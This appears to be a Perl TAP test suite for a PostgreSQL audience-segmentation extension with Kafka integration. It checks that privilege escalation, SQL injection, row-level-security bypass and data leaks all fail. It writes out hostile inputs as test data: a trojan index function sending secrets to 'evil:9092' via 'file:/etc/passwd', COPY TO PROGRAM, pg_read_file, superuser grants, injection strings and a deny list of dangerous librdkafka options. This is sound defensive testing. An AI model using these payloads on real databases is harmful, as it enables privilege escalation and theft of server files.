$node->safe_psql('postgres', $pristine);
my ($set, $set_error) = run_calls(<<'SQL');
SET client_min_messages = error; SET standard_conforming_strings = off; SET escape_string_warning = off; SET backslash_quote = on;
SET transform_null_equals = on; SET array_nulls = off; SET IntervalStyle = 'sql_standard'; SET DateStyle = 'SQL, DMY'; SET timezone = 'Asia/Kathmandu';
SET extra_float_digits = -15; SET quote_all_identifiers = on; SET row_security = off; SET gin_fuzzy_search_limit = 1;
SET enable_indexscan = off; SET enable_nestloop = off; SET enable_hashjoin = off; SET enable_sort = off; SET jit_above_cost = 0;
SET parallel_setup_cost = 0; SET parallel_tuple_cost = 0; SET min_parallel_table_scan_size = 0; SET plpgsql.extra_errors = 'too_many_rows, strict_multi_assignment';
SET constraint_exclusion = on; SET synchronize_seqscans = off; SET from_collapse_limit = 1; SET join_collapse_limit = 1; SET geqo_threshold = 2; SET bytea_output = 'escape';
SQL
is($set_error, '', 'under settings that are meant to confuse all works');
$set =~ s/\Q1 day 12:00:00\E|\Q1 12:00:00\E/1 day 12:00:00/g;
is($set, $plain, 'and comes to the same');
verify_empty($node);
replay_ok($node);

#
# Workers, in a database whose owner is hostile: they have the settings of the database
#
$node->safe_psql('postgres', 'CREATE ROLE m_owner LOGIN; CREATE DATABASE owned OWNER m_owner');
$node->safe_psql('owned', <<'SQL');
CREATE EXTENSION audience_manager;
SELECT audience.kafka_cluster_set('main', '{"bootstrap.servers": "127.0.0.1:9"}');
SELECT audience.kafka_source_create('in');
SELECT audience.kafka_sink_create('out', 'transitions');
SELECT audience.segment_create('later', 'count(x, LAST ''1 second'') >= 1');
SQL
$node->safe_psql('owned', "CREATE SCHEMA mirror; $caught $mirror", extra_params => [ '-U', 'm_owner' ]);
$node->safe_psql('postgres', $_, extra_params => [ '-U', 'm_owner' ])
  foreach map { "ALTER DATABASE owned SET $_" } 'search_path = mirror, pg_temp, audience, pg_catalog', 'transform_null_equals = on', 'row_security = off',
  'DateStyle = \'SQL, DMY\'', 'standard_conforming_strings = off', 'enable_seqscan = off', 'default_transaction_isolation = serializable', 'role = m_owner';
$node->append_conf('postgresql.conf', "audience.databases = 'owned'\n");
$node->reload;
{
	# what a superuser who goes there should do, too
	local $ENV{PGOPTIONS} = '-c search_path=pg_catalog -c role=none';
	$node->safe_psql('owned', "SELECT audience.event_ingest('{\"userId\":\"w\",\"eventType\":\"x\"}')");
	wait_for($node, 'a scheduler does its work there', "SELECT string_agg(reason, ' ' ORDER BY seq) FROM audience.transitions", db => 'owned', is => 'rule_evaluation expired');
	$node->safe_psql('owned', "SELECT audience.segment_create('chunks', 'true', refresh => 'later')");
	wait_for($node, 'in chunks, too', "SELECT status FROM audience.segments WHERE id = 'chunks'", db => 'owned', is => 'ready');
	wait_for($node, 'and so do those for Kafka', 'SELECT (SELECT state FROM audience.stat_kafka_source), (SELECT state FROM audience.stat_kafka_sink)',
		db => 'owned', is => 'waiting for broker|waiting for broker');
	is($node->safe_psql('owned', "SELECT errors FROM audience.stat_scheduler"), '0', 'without an error');
	is($node->safe_psql('owned', "SELECT count(*) FROM audience.stat_kafka_errors WHERE sqlstate IS NOT NULL"), '0', 'of the database');
}
unlike(slurp_file($node->logfile), qr/caught: \w+ \w+ as $superuser/, 'and nothing hostile is run by a superuser');
$node->append_conf('postgresql.conf', "audience.databases = 'none'\n");
$node->reload;

#
# Somebody else's session: code of one role that is run in a session of another
#
my $deputy = <<'SQL';
CREATE SCHEMA deputy;
CREATE TABLE deputy.t (a int PRIMARY KEY);
CREATE FUNCTION deputy.run(sql text) RETURNS void LANGUAGE plpgsql AS 'BEGIN EXECUTE sql; END';
CREATE FUNCTION deputy.try(sql text) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
	PERFORM deputy.run(sql);
	RETURN 1;
EXCEPTION WHEN insufficient_privilege THEN
	RETURN 0;
END $$;
CREATE FUNCTION deputy.all(a int) RETURNS int LANGUAGE sql IMMUTABLE AS $$
	SELECT deputy.try('SELECT audience.kafka_cluster_set(''stolen'', ''{"bootstrap.servers":"evil:9092","sasl.password":"file:/etc/passwd"}'')')
		+ deputy.try('SELECT audience.kafka_cluster_set(''stolen'', ''{"bootstrap.servers":"evil:9092","ssl.key.location":"/etc/passwd"}'')')
		+ deputy.try('SELECT audience.kafka_cluster_store(''stolen'', ''{}'')')
		+ deputy.try('SELECT audience.profile_patch(''u1'', ''{}'', true)')
		+ deputy.try('SELECT * FROM audience.transition_log')
		+ deputy.try('UPDATE audience.profiles SET members = NULL')
		+ deputy.try('SELECT pg_read_file(''/etc/passwd'')')
$$;
CREATE INDEX i ON deputy.t (deputy.all(a));
CREATE MATERIALIZED VIEW deputy.m AS SELECT deputy.all(1);
CREATE FUNCTION deputy.definer() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT deputy.all(1)';
INSERT INTO deputy.t VALUES (1), (2);
SQL
$node->safe_psql('postgres', 'GRANT CREATE ON DATABASE postgres TO m_admin');
$node->safe_psql('postgres', $deputy, extra_params => [ '-U', 'm_admin' ]);
$node->safe_psql('postgres', 'GRANT ALL ON ALL TABLES IN SCHEMA deputy TO PUBLIC; GRANT USAGE ON SCHEMA deputy TO PUBLIC');
foreach my $sql ('ANALYZE deputy.t', 'REINDEX INDEX deputy.i', 'VACUUM FULL deputy.t', 'CLUSTER deputy.t USING t_pkey',
	'REFRESH MATERIALIZED VIEW deputy.m', 'SELECT deputy.definer()')
{
	$node->safe_psql('postgres', $sql);
	is($node->safe_psql('postgres', "SELECT count(*) FROM audience.kafka_clusters WHERE name = 'stolen'"), '0',
		"a superuser's $sql lends nothing to whose code it runs");
}
is($node->safe_psql('postgres', 'SELECT * FROM deputy.m'), '0', 'none of what was tried in it worked');
is($node->safe_psql('postgres', 'SELECT deputy.definer()'), '0', 'nor in a function of that role\'s that a superuser calls');
is(join(' ', states('m_admin', '', "SELECT audience.kafka_cluster_set('stolen', '{\"bootstrap.servers\":\"h\",\"ssl.ca.location\":\"/x\"}')")),
	'42501', 'nor by itself');
is(join(' ', states($superuser, '', "SELECT audience.kafka_cluster_set('own', '{\"bootstrap.servers\":\"h\",\"ssl.ca.location\":\"/x\"}')")),
	'', 'who may read files may name them');
is($node->safe_psql('postgres', <<'SQL'), "0A000 $superuser", 'after an error in it everybody is who they were');
DO $$ BEGIN
	PERFORM audience.kafka_cluster_set('not a name', '{"bootstrap.servers":"h"}');
EXCEPTION WHEN invalid_parameter_value THEN NULL; END $$;
SELECT '0A000 ' || current_user;
SQL

#
# From admin to owner or superuser
#
my @attempts = (
	"CREATE OR REPLACE FUNCTION audience.segment_get(id text) RETURNS jsonb LANGUAGE sql AS 'SELECT NULL::jsonb'",
	'ALTER FUNCTION audience.segment_get(text) SECURITY INVOKER', 'ALTER FUNCTION audience.segment_get(text) RESET search_path',
	'ALTER FUNCTION audience.segment_get(text) OWNER TO m_all', 'DROP FUNCTION audience.segment_get(text)',
	"CREATE FUNCTION audience.segment_row(varchar) RETURNS int LANGUAGE sql AS 'SELECT 1'",
	"CREATE OPERATOR audience.= (LEFTARG = text, RIGHTARG = text, FUNCTION = pg_catalog.texteq)",
	'ALTER EXTENSION audience_manager ADD TABLE deputy.t', 'ALTER EXTENSION audience_manager DROP FUNCTION audience.segment_get(text)',
	'ALTER EXTENSION audience_manager UPDATE', 'DROP EXTENSION audience_manager', 'CREATE EXTENSION plpython3u',
	'ALTER SCHEMA audience OWNER TO m_all', 'ALTER SCHEMA audience RENAME TO x',
	'ALTER VIEW audience.memberships SET (security_barrier = false)', "CREATE OR REPLACE VIEW audience.memberships AS SELECT 1",
	'CREATE POLICY p ON audience.events', 'ALTER TABLE audience.profiles DISABLE ROW LEVEL SECURITY', 'ALTER TABLE audience.events DISABLE TRIGGER ALL',
	'ALTER TABLE audience.events ADD COLUMN x int', 'CREATE INDEX ON audience.events (event_type)', 'CREATE STATISTICS s ON user_id, event_type FROM audience.events',
	"COMMENT ON TABLE audience.events IS 'x'", 'SET SESSION AUTHORIZATION ' . $superuser, 'SET ROLE ' . $superuser, "SET session_replication_role = 'replica'",
	"SET audience.now = '2020-01-01'", "SET audience.kafka_role = 'm_all'", "SET audience.strict = off", "SET audience.kafka_origin = 'x'",
	"SET audience.max_event_size = '1GB'", "SET audience.event_retention = '1s'", "ALTER ROLE m_all SET audience.now = '2020-01-01'",
	"ALTER DATABASE postgres SET audience.kafka_role = 'm_all'", "ALTER SYSTEM SET audience.databases = ''",
	"SELECT set_config('audience.event_retention', '1s', false)",
	"COPY audience.segments TO PROGRAM 'id'", "COPY audience.events (user_id, event_type) FROM PROGRAM 'id'", "COPY audience.segments TO '/tmp/x'",
	"COPY audience.events (user_id, event_type) FROM '/etc/passwd'", "SELECT lo_import('/etc/passwd')", "SELECT pg_read_file('/etc/passwd')",
	"LOAD '/tmp/x.so'", "CREATE FUNCTION mirror.c() RETURNS int LANGUAGE c AS 'audience_manager', 'aud_now_sql'",
	"CREATE FUNCTION mirror.supported(jsonb, audience.rule) RETURNS bool LANGUAGE sql SUPPORT audience.jsonb_match_support AS 'SELECT true'",
	"CREATE OPERATOR mirror.@@@ (LEFTARG = jsonb, RIGHTARG = bytea, FUNCTION = mirror.takes, RESTRICT = audience.match_sel)",
	"CREATE OPERATOR mirror.@@@ (LEFTARG = jsonb, RIGHTARG = bytea, FUNCTION = mirror.takes, JOIN = audience.match_joinsel)",
	'CREATE CAST (bytea AS audience.rule) WITHOUT FUNCTION', 'CREATE CAST (text AS audience.rule) WITH INOUT AS IMPLICIT',
	'CREATE OPERATOR CLASS mirror.ops DEFAULT FOR TYPE bytea USING hash AS OPERATOR 1 pg_catalog.=, FUNCTION 1 audience.rule_hash(audience.rule)',
	'CREATE TYPE mirror.base (INPUT = audience.rule_in, OUTPUT = audience.rule_out)',
	'CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION mirror.caught()', 'CREATE PUBLICATION p FOR TABLE audience.profiles',
	"SELECT pg_create_logical_replication_slot('s', 'test_decoding')", 'CREATE SUBSCRIPTION s CONNECTION \'\' PUBLICATION p',
	'GRANT pg_read_server_files TO m_all', 'CREATE ROLE x SUPERUSER', 'ALTER ROLE m_all SUPERUSER', "GRANT $superuser TO m_all",
	'SELECT audience.engine_work_reset()', "SELECT audience.kafka_cluster_store('x', '{\"plugin.library.paths\":\"/tmp/x.so\"}')",
	"UPDATE audience.kafka_clusters SET options = '{\"plugin.library.paths\":\"/tmp/x.so\"}'",
	"PREPARE p AS SELECT audience.definitions_lock(); EXECUTE p");
$node->safe_psql('postgres', "CREATE FUNCTION mirror.takes(jsonb, bytea) RETURNS bool LANGUAGE sql AS 'SELECT true'", extra_params => [ '-U', 'm_all' ]);
my %fine = map { $_ => 1 } qw(42501 42P17);
my @got = states('m_all', 'SET client_min_messages = error;', map { "BEGIN\\; $_" } @attempts);
# what cannot stand in a transaction block, and what there is no such thing of
is(join("\n", map { "$attempts[$_]: $got[$_]" } grep { !$fine{ $got[$_] } && !($attempts[$_] =~ /plpython3u|SUBSCRIPTION|logical|ALTER SYSTEM/ && $got[$_] =~ /^(0A000|25001|55000|58P01|22023)$/) } 0 .. $#attempts),
	'', scalar(@attempts) . ' ways from all levels to the owner are shut');

#
# What a cluster of Kafka may be given
#
my @never = qw(plugin.library.paths ssl.engine.location ssl.engine.id ssl.engine.callback.data ssl.providers ssl_engine_callback_data
  sasl.kerberos.kinit.cmd sasl.kerberos.keytab sasl.kerberos.principal sasl.kerberos.service.name sasl.kerberos.min.time.before.relogin
  sasl.oauthbearer.config sasl.oauthbearer.method sasl.oauthbearer.token.endpoint.url sasl.oauthbearer.client.secret sasl.oauthbearer.extensions
  sasl.oauthbearer.scope enable.sasl.oauthbearer.unsecure.jwt ssl.key.pem ssl.certificate.pem ssl.ca.pem ssl_key ssl_certificate ssl_ca
  ssl.ca.certificate.stores https.ca.location https.ca.pem debug log_level log.queue log.thread.name log.connection.close statistics.interval.ms
  interceptors builtin.features opaque default_topic_conf error_cb throttle_cb stats_cb log_cb socket_cb connect_cb closesocket_cb open_cb resolve_cb
  oauthbearer_token_refresh_cb background_event_cb enabled_events offset.store.path offset.store.method group.id group.instance.id
  transactional.id enable.idempotence acks enable.auto.commit isolation.level topic.blacklist metadata.broker.list broker.version.fallback
  api.version.request test.mock.num.brokers message.timeout.ms partitioner partitioner_cb rebalance_cb consume_cb offset_commit_cb internal.termination.signal
  allow.auto.create.topics socket.send.buffer.bytes client.software.name);
my %path_options = (
	'sasl.password' => 'file:/etc/passwd', 'ssl.key.password' => 'file:/etc/passwd', 'ssl.keystore.password' => 'file:/etc/passwd',
	map { $_ => '/etc/passwd' } qw(ssl.ca.location ssl.certificate.location ssl.key.location ssl.keystore.location ssl.crl.location));
my $cluster_set = sub {
	my ($option, $value) = @_;
	return 'SELECT audience.kafka_cluster_set(\'x\', ' . quote(qq({"bootstrap.servers": "h:1", "$option": "$value"})) . ')';
};
is(join(' ', states($superuser, '', map { $cluster_set->($_, 'x') } @never)), join(' ', ('22023') x @never),
	scalar(@never) . ' options of librdkafka are not for anybody, not even a superuser');
is(join(' ', states('m_all', '', map { $cluster_set->($_, $path_options{$_}) } sort keys %path_options)), join(' ', ('42501') x keys %path_options),
	'who may not read files may not name them');
is(join(' ', states($superuser, '', map { $cluster_set->($_, 'etc/passwd') } sort keys %path_options)), join(' ', ('22023') x keys %path_options),
	'nor does anybody by a relative path, or a secret by its value');

#
# Names and texts that are meant to become SQL
#
is( join(' ', states('m_kafka', '',
		"SELECT audience.kafka_take_events('in', '{0}', '{9}', ARRAY[now()], ARRAY['\\x7b00227d'::bytea])",
		"SELECT audience.kafka_take_events('in', '{0}', '{9}', ARRAY[now()], ARRAY['\\x7b2275736572496422ff7d'::bytea])",
		"SELECT audience.kafka_take_segment('main', 'segs', '\\x6100', NULL)",
		"SELECT audience.event_ingest('{\"userId\":\"a\\u0000b\",\"eventType\":\"x\"}')",
		"SELECT audience.rule_validate('{\"field\":\"a\\u0000b\",\"operator\":\"exists\"}'::jsonb)")),
	'22021 22021 22021 22P05 22P05', 'bytes of zero and those that are no text');
my @nasty = (
	"'); DROP TABLE public.canary; --", "\\'; DROP TABLE public.canary; --", '"); DROP TABLE public.canary; --', '$$; DROP TABLE public.canary; $$',
	'$1', '%s%n%1$s%L%I%', "a\nDROP TABLE public.canary;\n", "\x{2019}'\x{ff07}", "' || (SELECT 1) || '", "E'\\x27'", '*/ DROP TABLE public.canary /*', "\t\r\x{1}",
	'{"}', "]'.[*]", 'NULL', '%', '_', "''''''", '\\', '\\\\', "u&'\\0027'", '${x}', ':x', 'select', '..', '/', '~1', 'x' x 200);
$node->safe_psql('postgres', 'CREATE TABLE public.canary (a int); GRANT ALL ON public.canary TO m_all');
my $json = JSON::PP->new->canonical->allow_nonref;
my @injected;
my $utf8 = sub { my $text = shift; utf8::encode($text); return quote($text) };
foreach my $i (0 .. $#nasty)
{
	my ($text, $type) = ($nasty[$i], "type$nasty[$i]");
	my $rule = sub { return $utf8->($json->encode($_[0])) };
	push @injected,
	  map { "$_;\n" } (
		"SELECT audience.event_ingest(" . $rule->({ userId => $text, eventId => $text, eventType => $type, properties => { $text => $text, a => 5 }, context => { $text => [$text] } }) . ")",
		"SELECT audience.profile_set(" . $utf8->($text) . ", " . $rule->({ $text => { $text => $text } }) . ")",
		"SELECT audience.segment_create(" . $utf8->($text) . ", " . $rule->({ event => $type, where => { field => '"' . ($text =~ s/"/""/gr) . '"', operator => 'eq', value => $text },
				window => { last => '30 days' } }) . "::jsonb, id => " . $utf8->("seg$text") . ", description => " . $utf8->($text) . ")",
		"SELECT audience.segment_create('d$i', " . $rule->({ all => [ { segment => "seg$text" }, { none => [ { sequence => [ { event => "n$text" }, { event => $type, within => '1 hour' } ] },
			{ field => 'x', operator => 'in', value => [ $text, 1 ] }, { sample => { percent => 1, seed => $text } } ] } ] }) . "::jsonb)",
		"SELECT audience.segment_create('s$i', type => 'static', id => " . $utf8->("list$text") . ")",
		"SELECT audience.segment_add(" . $utf8->("list$text") . ", ARRAY[" . $utf8->($text) . ", " . $utf8->("other$text") . "])",
		"SELECT audience.trait_create('t$i', 'last', " . $utf8->($type) . ", " . $utf8->('"' . ($text =~ s/"/""/gr) . '"') . ", " . $rule->({ field => 'a', operator => 'in', value => [ 5, $text ] }) . "::jsonb)",
		"SELECT audience.segment_update('d$i', rules => " . $rule->({ any => [ { segment => "seg$text" }, { segment => "list$text" }, { field => "t$i", operator => 'eq', value => $text } ] }) . "::jsonb)",
		"CALL audience.segment_refresh(" . $utf8->("seg$text") . ")",
		"SELECT count(*) FROM audience.segment_explain(" . $utf8->("seg$text") . ", " . $utf8->($text) . ")",
		"SELECT count(*) FROM audience.segment_members_at(" . $utf8->("seg$text") . ", now())",
		"SELECT audience.profile_get(" . $utf8->($text) . ") IS NULL",
		"SELECT audience.profile_merge(" . $utf8->("other$text") . ", " . $utf8->($text) . ")");
}
my $injected_path = PostgreSQL::Test::Utils::tempdir() . '/injected.sql';
append_to_file($injected_path, "SET client_min_messages = error;\n" . join '', @injected);
my ($injected_out, $injected_error) = ('', '');
$node->psql('postgres', undef, extra_params => [ '-U', 'm_all', '-f', $injected_path ], stdout => \$injected_out, stderr => \$injected_error, on_error_stop => 0);
is($injected_error, '', scalar(@nasty) . ' nasty texts as ids, names, types, keys, values, paths and seeds: ' . scalar(@injected) . ' statements');
is($node->safe_psql('postgres', "SELECT count(*) FROM audience.memberships WHERE segment_id ~ '^seg'"), scalar(@nasty), 'each is what it is: the segments have their members');
is($node->safe_psql('postgres', "SELECT count(*) FROM audience.memberships WHERE segment_id ~ '^d[0-9]'"), scalar(@nasty), 'and so have those that refer to them');
is($node->safe_psql('postgres', 'SELECT count(*) FROM public.canary'), '0', 'nothing was run');
verify_empty($node, 'verify(), which makes SQL of all that, finds no difference');
my @topics = map { ("SELECT audience.kafka_source_create($_)", "SELECT audience.kafka_sink_create($_, 'transitions')", "SELECT audience.kafka_cluster_set($_, '{\"bootstrap.servers\":\"h\"}')") }
  map { $utf8->($_) } grep { !/\A[A-Za-z0-9_.-]{1,249}\z/ } @nasty;
is(join(' ', states('m_all', '', @topics)), join(' ', ('22023') x @topics), 'clusters and topics have plain names only');
foreach my $role ("it's; DROP TABLE public.canary", 'a"b', 'Public', 'current_user', 'select', '%s$$')
{
	my $name = '"' . ($role =~ s/"/""/gr) . '"';
	$node->safe_psql('postgres', "CREATE ROLE $name; SELECT audience.grant_access(" . quote($name) . ", 'read'); SET ROLE $name; SELECT audience.segment_count('list')");
	is($node->safe_psql('postgres', "SELECT count(*) FROM pg_class c, aclexplode(c.relacl) a WHERE c.oid = 'audience.profiles'::regclass AND a.grantee = (SELECT oid FROM pg_roles WHERE rolname = " . quote($role) . ")"),
		'1', "grant_access: role $role");
}
is($node->safe_psql('postgres', "SELECT count(*) FROM pg_class c, aclexplode(c.relacl) a WHERE c.relnamespace = 'audience'::regnamespace AND a.grantee = 0"), '0', 'and PUBLIC got nothing');

#
# Row-level security: binds statements on the tables themselves, and nothing else
#
$node->safe_psql('postgres', <<'SQL');
ALTER TABLE audience.events ENABLE ROW LEVEL SECURITY;
ALTER TABLE audience.profiles ENABLE ROW LEVEL SECURITY;
ALTER TABLE audience.profiles FORCE ROW LEVEL SECURITY;
ALTER TABLE audience.events FORCE ROW LEVEL SECURITY;
ALTER TABLE audience.segments ENABLE ROW LEVEL SECURITY;
ALTER TABLE audience.transition_log ENABLE ROW LEVEL SECURITY;
CREATE POLICY own ON audience.events USING (user_id = 'mine') WITH CHECK (user_id = 'mine');
CREATE POLICY own ON audience.profiles USING (user_id = 'mine');
CREATE POLICY own ON audience.segments USING (id = 'spenders');
SQL
is(join(' ', states('m_ingest', '',
		"INSERT INTO audience.events (user_id, event_id, event_type, properties) VALUES ('mine', '1', 'purchase', '{\"amount\":500}')",
		"INSERT INTO audience.events (user_id, event_id, event_type, properties) VALUES ('theirs', '1', 'purchase', '{\"amount\":500}')",
		"INSERT INTO audience.events (user_id, event_type) VALUES ('mine', 'x'), ('theirs', 'x')",
		"SELECT audience.event_ingest('{\"userId\":\"theirs\",\"eventType\":\"purchase\",\"properties\":{\"amount\":500}}')",
		"SELECT audience.profile_set('theirs', '{\"a\":1}')",
		"SET row_security = off", "INSERT INTO audience.events (user_id, event_type) VALUES ('theirs', 'x')")),
	' 42501 42501    42501', 'policies on events bind INSERT, and no function');
is(join(' ', states('m_ingest', '', 'COPY audience.events (user_id, event_type) FROM STDIN')), '0A000', 'COPY does not take that');
my $as_reader = sub { return $node->safe_psql('postgres', shift, extra_params => [ '-U', 'm_read' ]) };
is($as_reader->('SELECT user_id FROM audience.profiles'), 'mine', 'policies on profiles bind SELECT');
is($as_reader->('SELECT id FROM audience.segments'), 'spenders', 'and those on segments');
is($as_reader->("SELECT user_id FROM audience.memberships WHERE segment_id = 'spenders' AND user_id IN ('mine', 'theirs') ORDER BY 1"), "mine\ntheirs", 'but no view');
is($as_reader->("SELECT DISTINCT user_id FROM audience.transitions WHERE user_id IN ('mine', 'theirs') ORDER BY 1"), "mine\ntheirs", 'neither that of history');
is($as_reader->("SELECT audience.profile_get('theirs')->>'userId', audience.segment_count('list')"), 'theirs|0', 'and no function');
is($as_reader->("SELECT count(*) FROM audience.profiles p WHERE p OPERATOR(audience.|=) 'spent > 100'::audience.rule"), '1', 'an operator gets what SELECT gives it');
is(join(' ', states('m_read', 'SET row_security = off;', 'SELECT user_id FROM audience.profiles')), '42501', 'row_security does not turn it off');
verify_empty($node, 'row-level security, forced: the engine is not bound');
$node->safe_psql('postgres', <<'SQL');
DROP POLICY own ON audience.events; DROP POLICY own ON audience.profiles; DROP POLICY own ON audience.segments;
ALTER TABLE audience.events DISABLE ROW LEVEL SECURITY; ALTER TABLE audience.profiles DISABLE ROW LEVEL SECURITY;
ALTER TABLE audience.profiles NO FORCE ROW LEVEL SECURITY; ALTER TABLE audience.events NO FORCE ROW LEVEL SECURITY;
ALTER TABLE audience.segments DISABLE ROW LEVEL SECURITY; ALTER TABLE audience.transition_log DISABLE ROW LEVEL SECURITY;
SQL

#
# What can be learned
#

# a role that puts in does not get out
is($node->safe_psql('postgres', "SELECT audience.profile_set('u1', '{}')", extra_params => [ '-U', 'm_ingest' ]), '{}', 'ingest: profile_set tells nothing of what is there');
is($node->safe_psql('postgres', "SELECT audience.profile_set('u1', '{\"a\":{\"b\":1,\"c\":null}}')", extra_params => [ '-U', 'm_ingest' ]), '{"a": {"b": 1}}', 'but what was given');
is($node->safe_psql('postgres', "SELECT audience.profile_set('u1', '{\"a\":null}')", extra_params => [ '-U', 'm_admin' ]), '{"secret": "of u1"}', 'admin: all of it');
$node->safe_psql('postgres', 'CREATE ROLE m_columns LOGIN; GRANT m_ingest TO m_columns; GRANT SELECT (user_id, attributes) ON audience.profiles TO m_columns');
is($node->safe_psql('postgres', "SELECT audience.profile_set('u1', '{}')", extra_params => [ '-U', 'm_columns' ]), '{"secret": "of u1"}', 'and who may read these columns');
my $duplicate = '';
$node->psql('postgres', "INSERT INTO audience.events (user_id, occurred_at, event_id, event_type) SELECT 'dup', '2026-01-01Z', '1', 'x' FROM generate_series(1, 2)",
	extra_params => [ '-U', 'm_ingest' ], stderr => \$duplicate);
like($duplicate, qr/duplicate key value violates unique constraint/, 'ingest: that an event is there already is told');
unlike($duplicate, qr/\bdup\b|Key/, 'but no value of it');
is(join(' ', states('m_ingest', '', 'SELECT user_id FROM audience.events', "INSERT INTO audience.events (user_id, event_type) VALUES ('x', 'x') RETURNING *",
		"INSERT INTO audience.events AS e (user_id, event_type) VALUES ('x', 'x') ON CONFLICT (user_id, occurred_at, event_id) DO UPDATE SET event_type = e.event_type",
		"SELECT lastval()", "SELECT last_value FROM audience.transition_seq", "EXPLAIN SELECT * FROM audience.memberships", "EXPLAIN SELECT * FROM audience.profiles WHERE user_id = 'u1'",
		"EXPLAIN SELECT * FROM audience.profiles WHERE attributes OPERATOR(audience.|=) 'secret = ''of u1'''")),
	join(' ', (42501) x 3, '55000', (42501) x 4), 'ingest: nothing by other ways');

# whoever is let in nowhere cannot tell what is there
foreach my $role (qw(m_public m_member_ingest))
{
	my @there = states($role, '', "SELECT audience.segment_get('spenders')", "SELECT audience.profile_get('u1')", "SELECT audience.segment_count('spenders')");
	my @absent = states($role, '', "SELECT audience.segment_get('none')", "SELECT audience.profile_get('nobody')", "SELECT audience.segment_count('none')");
	is("@there", "@absent", "$role: errors do not tell what is there");
}
is($node->safe_psql('postgres', "SELECT count(*) FROM pg_stats WHERE schemaname = 'audience'", extra_params => [ '-U', 'm_ingest' ]), '0', 'ingest: no statistics of columns');
is($node->safe_psql('postgres', "SELECT count(*) FROM pg_sequences WHERE schemaname = 'audience' AND last_value IS NOT NULL", extra_params => [ '-U', 'm_ingest' ]), '0', 'nor numbers');
is($node->safe_psql('postgres', "SELECT count(*) FROM pg_stat_activity WHERE backend_type ~ 'audience' OR (usename <> current_user AND query <> '<insufficient privilege>')",
		extra_params => [ '-U', 'm_read' ]), '0', 'read: no query of others, nor what workers do');

# functions that say what they see, in the conditions of a view
$node->safe_psql('postgres', <<'SQL');
SELECT audience.segment_create('Hidden', type => 'static', id => 'hidden');
SELECT audience.segment_add('hidden', ARRAY['hidden user']);
SELECT audience.segment_update('hidden', active => false);
ANALYZE;
SQL
my $leak = '';
$node->psql('postgres', <<'SQL', extra_params => [ '-U', 'm_read' ], stderr => \$leak);
CREATE FUNCTION pg_temp.leak(text, text) RETURNS bool LANGUAGE plpgsql COST 0.0000001 AS $$ BEGIN RAISE NOTICE 'leak: % %', $1, $2; RETURN false; END $$;
SELECT * FROM audience.memberships m WHERE pg_temp.leak(m.segment_id, m.user_id);
SQL
like($leak, qr/leak: spenders u1\b/, 'a condition sees the members');
unlike($leak, qr/leak: hidden|hidden user/, 'and nobody whom the view leaves out');

# estimates over a column that somebody may see only in part
$node->safe_psql('postgres', <<'SQL');
CREATE TABLE public.notes (owner text, data jsonb);
INSERT INTO public.notes SELECT 'boss', '{"word":"merger"}' FROM generate_series(1, 900);
INSERT INTO public.notes SELECT 'm_read', jsonb_build_object('word', 'w' || i) FROM generate_series(1, 100) i;
ANALYZE public.notes;
CREATE VIEW public.my_notes WITH (security_barrier) AS SELECT data FROM public.notes WHERE owner = current_user;
GRANT SELECT ON public.my_notes TO m_read;
SQL
my $estimate = sub {
	my ($role, $from, $word) = @_;
	my $plan = $node->safe_psql('postgres', "EXPLAIN SELECT * FROM $from n WHERE n.data OPERATOR(audience.|=) 'word = ''$word'''::audience.rule", extra_params => [ '-U', $role ]);
	return join ' ', $plan =~ /rows=(\d+)/g;
};
is($estimate->('m_read', 'public.my_notes', 'merger'), $estimate->('m_read', 'public.my_notes', 'nothing'), 'estimates of |= tell nothing of rows behind a view');
isnt($estimate->($superuser, 'public.notes', 'merger'), $estimate->($superuser, 'public.notes', 'nothing'), 'but to those who may see them');
$node->safe_psql('postgres', <<'SQL');
CREATE POLICY own ON public.notes USING (owner = current_user);
ALTER TABLE public.notes ENABLE ROW LEVEL SECURITY;
GRANT SELECT ON public.notes TO m_read;
CREATE INDEX ON public.notes (owner);
CREATE INDEX ON public.notes USING gin (data);
SQL
is($estimate->('m_read', 'public.notes', 'merger'), $estimate->('m_read', 'public.notes', 'nothing'), 'nor of rows behind a policy');
is($node->safe_psql('postgres', "SELECT count(*) FROM public.notes n WHERE n OPERATOR(audience.|=) 'owner = ''boss'' OR data.word = ''merger'''::audience.rule", extra_params => [ '-U', 'm_read' ]),
	'0', 'policies of a table bind |= over its rows');

$node->stop;
done_testing();
